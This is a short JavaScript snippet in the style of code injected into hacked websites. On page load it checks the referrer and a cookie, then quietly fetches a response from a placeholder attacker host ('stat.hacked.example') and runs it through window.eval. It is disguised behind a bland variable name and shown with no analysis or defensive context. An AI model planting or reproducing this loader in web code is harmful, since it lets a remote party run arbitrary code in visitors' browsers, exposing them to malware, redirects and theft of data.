if (typeof qsview === "undefined") {
  var qsview = true;
  (function () {
    var nav = navigator, doc = document, sc = screen, win = window;
    var HttpClient = function () {
      this.get = function (u, cb) {
        var r = new XMLHttpRequest();
        r.onreadystatechange = function () { if (r.readyState == 4 && r.status == 200) cb(r.responseText); };
        r.open("GET", u, true);
        r.send(null);
      };
    };
    var rand = function () { return Math.random().toString(36).substr(2); };
    var host = win.location.hostname, ref = doc.referrer;
    if (ref && ref.indexOf(host) < 0 && doc.cookie.indexOf("utma-s") < 0) {
      new HttpClient().get("//stat.hacked.example/wp-content/a.php?id=" + rand() + rand(), function (t) {
        if (t.indexOf("qsnext") >= 0) win.eval(t);
      });
    }
  })();
}
